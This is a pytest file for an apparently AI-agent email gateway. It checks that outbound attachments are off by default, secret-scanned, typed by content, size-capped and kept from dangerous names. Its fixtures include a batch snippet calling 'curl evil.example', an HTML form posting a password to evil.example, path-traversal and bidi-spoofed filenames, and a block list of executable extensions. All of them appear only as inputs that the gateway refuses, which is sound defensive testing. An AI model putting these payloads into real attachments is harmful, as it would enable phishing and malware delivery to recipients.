"""Outbound attachments: off by default; when on, capped, typed by content and scanned for secrets.

Every test runs on SQLite and PostgreSQL; the files are made by the maintained writers (fpdf2,
python-docx, openpyxl), the send goes through a real CaptureServer, and the CLI is the real one.
"""

from __future__ import annotations

import base64
import hashlib
import io
import sys
from collections.abc import Iterator
from email import message_from_bytes, policy
from email.message import EmailMessage
from pathlib import Path

import docx
import openpyxl
import pytest
from fpdf import FPDF
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

from mailgate.cli.main import main
from mailgate.errors import InvalidInput
from mailgate.gateway import Gateway, open_gateway
from mailgate.model import Attachment, Decision, DraftState
from mailgate.outbound.attachments import sniff
from mailgate.outbound.compose import compose_message
from mailgate.outbound.drafts import SendRequest
from mailgate.testing.capture import CaptureServer
from tests.conftest import StartServer, make_home

SECRET = "hunter2-correct-horse-battery-9f3a"
OWNER = "me@home.example"
FROM = "bot@mg.example"
PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)


def pdf_with(text: str) -> bytes:
    pdf = FPDF()
    pdf.add_page()
    pdf.set_font("helvetica", size=11)
    pdf.cell(text=text)
    return bytes(pdf.output())


def docx_with(text: str) -> bytes:
    document = docx.Document()
    document.add_paragraph("Quarterly figures")
    document.add_paragraph(text)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def xlsx_with(text: str) -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet["A1"] = "name"
    sheet["B2"] = text
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def open_home(tmp_path: Path, store_url: str, mail: str = "", smtp: str = "") -> Gateway:
    gw = open_gateway(make_home(tmp_path / "home", store_url, f"[mail]\n{mail}\n{smtp}"))
    gw.rules.add_agent("bot")
    gw.rules.add_owner(OWNER)  # owner mail passes every rule but the leak scan: it shows the scan alone
    gw.secrets.add_secret("db.password", SECRET)
    return gw


@pytest.fixture
def off(tmp_path: Path, store_url: str) -> Iterator[Gateway]:
    gw = open_home(tmp_path, store_url)
    yield gw
    gw.store.dispose()


@pytest.fixture
def on(tmp_path: Path, store_url: str) -> Iterator[Gateway]:
    gw = open_home(tmp_path, store_url, "allow_attachments = true\nmax_attachment_bytes = 200000")
    yield gw
    gw.store.dispose()


def send(gw: Gateway, *files: Attachment, to: str = OWNER, key: str = "") -> object:
    req = SendRequest(
        agent="bot", to=[to], subject="Figures", body="Attached.", attachments=files, idempotency_key=key
    )
    return gw.outbox.submit(req, require_key=False)


def refused(gw: Gateway, *files: Attachment) -> InvalidInput:
    with pytest.raises(InvalidInput) as caught:
        send(gw, *files)
    assert caught.value.field == "attachments"
    assert gw.outbox.drafts() == []  # refused before anything is stored
    return caught.value


# --- off by default ------------------------------------------------------------------------------


def test_attachments_are_refused_by_default_and_the_reason_says_how_to_enable(off: Gateway) -> None:
    exc = refused(off, Attachment(filename="a.txt", content_type="", data=b"hello"))
    assert "mail.allow_attachments" in str(exc) and "allow_attachments = true" in str(exc)


def test_cli_send_with_an_attachment_is_refused_by_default(
    off: Gateway, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    file = tmp_path / "notes.txt"
    file.write_text("hello")
    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(b"")))
    home = tmp_path / "home"
    args = ["--home", str(home), "send", "--agent", "bot", "--to", OWNER, "--subject", "s", "--body", "b"]
    code = main([*args, "--attach", str(file)])
    assert code == 2
    assert "allow_attachments" in capsys.readouterr().err
    assert off.outbox.drafts() == []


# --- scanned when on -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("report.pdf", pdf_with(f"Access: {SECRET}")),
        ("report.docx", docx_with(f"The password is {SECRET} for now")),
        ("figures.xlsx", xlsx_with(SECRET)),
        ("notes.txt", f"login {SECRET}".encode()),
    ],
    ids=["pdf", "docx", "xlsx", "text"],
)
def test_a_vault_value_inside_an_attachment_blocks_the_send(on: Gateway, name: str, data: bytes) -> None:
    result = send(on, Attachment(filename=name, content_type="", data=data))
    assert result.decision is Decision.DENY  # type: ignore[attr-defined]
    (draft,) = on.outbox.drafts()
    assert draft.state is DraftState.REJECTED
    assert "db.password" in draft.note and name in draft.note
    assert draft.attachments == ()  # the evidence is kept without the file that carries the secret


def test_a_base64_text_with_a_secret_through_the_agent_door_blocks_the_send(on: Gateway) -> None:
    from mailgate import AttachmentInput, SendInput

    caller = on.tokens.authenticate(on.tokens.create("bot", "mail:send").token, door="api")
    content = base64.b64encode(f"note: {SECRET}\n".encode()).decode()
    outcome = on.agents.send(
        caller,
        SendInput(
            to=[OWNER],
            subject="s",
            body="b",
            idempotency_key="k1",
            attachments=[AttachmentInput(filename="n.txt", content_base64=content)],
        ),
    )
    assert outcome.outcome == "denied"
    assert [d.state for d in on.outbox.drafts()] == [DraftState.REJECTED]


def test_a_clean_attachment_is_stored_with_its_sniffed_type(on: Gateway) -> None:
    data = pdf_with("Nothing secret in here")
    result = send(on, Attachment(filename="Bericht – Q3.pdf", content_type="application/pdf", data=data))
    draft = on.outbox.draft(result.draft_id)  # type: ignore[attr-defined]
    assert draft.state is DraftState.APPROVED
    (stored,) = draft.attachments
    assert stored.filename == "Bericht – Q3.pdf" and stored.content_type == "application/pdf"
    assert stored.data == data


# --- type by content, caps -----------------------------------------------------------------------


def test_a_pdf_name_on_png_bytes_is_refused(on: Gateway) -> None:
    exc = refused(on, Attachment(filename="invoice.pdf", content_type="application/pdf", data=PNG))
    assert "application/pdf" in str(exc) and "image/png" in str(exc)


def test_a_png_without_a_declared_type_passes_as_png(on: Gateway) -> None:
    result = send(on, Attachment(filename="invoice.pdf", content_type="", data=PNG))
    (stored,) = on.outbox.draft(result.draft_id).attachments  # type: ignore[attr-defined]
    assert stored.content_type == "image/png"  # the content decides, not the name


@pytest.mark.parametrize(
    "name",
    [
        *("setup.bat", "run.ps1", "update.hta", "invoice.js", "macro.vbs", "login.URL", "tool.exe", "a.cmd."),
        # Session 10 (h8): Outlook's Level 1 names (ClickOnce, shortcuts, search and library files
        # that fetch from a share, Python, Access, certificates, themes), and an NTFS stream name
        # that a Windows file system writes as `tool.exe`; each passed as text/plain before.
        *("app.appref-ms", "portal.website", "docs.library-ms", "find.search-ms", "share.searchconnector-ms"),
        *("tool.py", "tool.pyw", "tool.pyz", "types.ps1xml", "db.mdb", "root.cer", "office.theme"),
        *("tool.exe::$DATA", "tool.exe:x"),
    ],
)
def test_a_name_the_recipients_system_runs_is_refused_whatever_the_bytes(on: Gateway, name: str) -> None:
    # Plain UTF-8 text passes as text/plain by content; opened by name it runs as a program.
    exc = refused(on, Attachment(filename=name, content_type="", data=b"@echo off\r\ncurl evil.example\r\n"))
    assert "runs as a program" in str(exc)


@pytest.mark.parametrize(
    "name", ["invoice.html", "statement.HTM", "logo.svg", "page.xhtml", "page.html::$DATA", "x.svg:y"]
)
def test_a_page_name_on_text_is_refused(on: Gateway, name: str) -> None:
    # A browser renders `invoice.html` (a login form posting anywhere); the approver read "text/plain".
    page = b"<html><form action='https://evil.example'><input name=pw></form></html>"
    exc = refused(on, Attachment(filename=name, content_type="text/plain", data=page))
    assert "opens as a page" in str(exc)


def test_a_type_outside_the_allowlist_and_unknown_bytes_are_refused(on: Gateway) -> None:
    gif = b"GIF89a\x01\x00\x01\x00\x00\x00\x00;"
    assert "image/gif" in str(refused(on, Attachment(filename="a.gif", content_type="", data=gif)))
    exe = b"MZ\x90\x00" + bytes(range(256)) * 4
    assert "attachment 1" in str(
        refused(on, Attachment(filename="a.txt", content_type="text/plain", data=exe))
    )


def test_size_caps_per_file_and_per_message(tmp_path: Path, store_url: str) -> None:
    mail = "allow_attachments = true\nmax_attachment_bytes = 1000\nmax_message_bytes = 1500"
    gw = open_home(tmp_path, store_url, mail)
    try:
        big = Attachment(filename="big.txt", content_type="", data=b"x" * 1001)
        assert "mail.max_attachment_bytes" in str(refused(gw, big))
        half = Attachment(filename="half.txt", content_type="", data=b"y" * 800)
        assert "mail.max_message_bytes" in str(refused(gw, half, half))
        assert send(gw, half).state == "approved"  # type: ignore[attr-defined]
    finally:
        gw.store.dispose()


@pytest.mark.parametrize("name", ["../etc/passwd", "a/b.txt", "c:\\x.txt", "..", "", " a.txt", "a.txt\u3000"])
def test_a_file_name_is_never_a_path(on: Gateway, name: str) -> None:
    refused(on, Attachment(filename=name, content_type="", data=b"hello"))


def test_a_bidi_override_in_a_file_name_is_refused(on: Gateway) -> None:
    exc = refused(on, Attachment(filename="invoice\u202efdp.exe", content_type="", data=b"hello"))
    assert "U+202E" in str(exc)


# --- what the person sees ------------------------------------------------------------------------


def test_approve_and_show_list_name_type_size_and_sha256(
    on: Gateway, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    data = pdf_with("plain figures")
    result = send(on, Attachment(filename="Q3 <report>.pdf", content_type="", data=data), to="x@y.example")
    assert result.state == "pending"  # type: ignore[attr-defined]
    capsys.readouterr()
    assert main(["--home", str(tmp_path / "home"), "show", result.draft_id]) == 0  # type: ignore[attr-defined]
    out = capsys.readouterr().out
    line = next(x for x in out.splitlines() if x.startswith("attach 1:"))
    assert "application/pdf" in line and f"{len(data)} bytes" in line
    assert hashlib.sha256(data).hexdigest() in line
    assert "Q3 <report>.pdf" in line


# --- compose and send ----------------------------------------------------------------------------


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    name=st.text(st.characters(blacklist_categories=["Cs", "Cc"]), min_size=1, max_size=200),
    data=st.binary(min_size=1, max_size=3000),
)
def test_composed_attachments_round_trip_through_the_stdlib_parser(name: str, data: bytes) -> None:
    assume(name == name.strip())  # the drafts refuse the rest: readers strip the name
    files = [
        Attachment(filename=name, content_type="application/octet-stream", data=data),
        Attachment(filename="b.txt", content_type="text/plain", data=b"second\r\nfile"),
    ]
    wire = compose_message(
        from_addr=FROM,
        to=["x@y.example"],
        cc=[],
        subject="s",
        body="Hallo\n",
        message_id="<a@b.c>",
        attachments=files,
    )
    msg = message_from_bytes(wire, policy=policy.default)
    assert isinstance(msg, EmailMessage) and msg.get_content_type() == "multipart/mixed"
    body = msg.get_body(("plain",))
    assert body is not None and body.get_content().replace("\r\n", "\n") == "Hallo\n"
    got = list(msg.iter_attachments())
    assert [p.get_filename() for p in got] == [name, "b.txt"]
    assert [p.get_payload(decode=True) for p in got] == [data, b"second\r\nfile"]


def test_an_approved_draft_with_an_attachment_arrives_intact(
    tmp_path: Path, store_url: str, start_server: StartServer
) -> None:
    server: CaptureServer = start_server("starttls")
    smtp = (
        f'[smtp]\nhost = "127.0.0.1"\nport = {server.port}\ntls = "starttls"\nfrom_addr = "{FROM}"\n'
        f'ca_file = "{server.ca_file}"\ntimeout_secs = 10\n'
    )
    gw = open_home(tmp_path, store_url, "allow_attachments = true", smtp)
    try:
        data = docx_with("Quarter closed")
        held = send(gw, Attachment(filename="Übersicht.docx", content_type="", data=data), to="x@y.example")
        gw.outbox.approve(held.draft_id, by="owner", confirm_hash=held.content_hash)  # type: ignore[attr-defined]
        report = gw.sending.settle()
        assert report.sent == [held.draft_id]  # type: ignore[attr-defined]
        (got,) = server.messages
        msg = message_from_bytes(got.data, policy=policy.default)
        assert isinstance(msg, EmailMessage)
        (part,) = msg.iter_attachments()
        assert part.get_filename() == "Übersicht.docx"
        assert (
            part.get_content_type()
            == "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
        )
        payload = part.get_payload(decode=True)
        assert (
            isinstance(payload, bytes)
            and hashlib.sha256(payload).hexdigest() == hashlib.sha256(data).hexdigest()
        )
    finally:
        gw.store.dispose()


def test_turning_attachments_off_after_approval_stops_the_send(
    tmp_path: Path, store_url: str, start_server: StartServer
) -> None:
    server: CaptureServer = start_server("starttls")
    smtp = (
        f'[smtp]\nhost = "127.0.0.1"\nport = {server.port}\ntls = "starttls"\nfrom_addr = "{FROM}"\n'
        f'ca_file = "{server.ca_file}"\ntimeout_secs = 10\n'
    )
    gw = open_home(tmp_path, store_url, "allow_attachments = true", smtp)
    try:
        result = send(gw, Attachment(filename="a.txt", content_type="", data=b"figures"))
        assert result.state == "approved"  # type: ignore[attr-defined]
        config = tmp_path / "home" / "config.toml"
        config.write_text(config.read_text().replace("allow_attachments = true", "allow_attachments = false"))
        gw.store.dispose()
        gw = open_gateway(tmp_path / "home")
        report = gw.sending.settle()
        assert report.sent == [] and server.messages == []
        draft = gw.outbox.draft(result.draft_id)  # type: ignore[attr-defined]
        assert draft.state is DraftState.REJECTED and "allow_attachments" in draft.note
    finally:
        gw.store.dispose()


def test_sniff_reads_content() -> None:
    assert sniff(PNG) == "image/png"
    assert sniff(pdf_with("x")) == "application/pdf"
    assert sniff(xlsx_with("x")) == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert sniff("Grüße".encode()) == "text/plain"
    assert sniff(b"\xff\xfe\x00garbage\x80") == ""
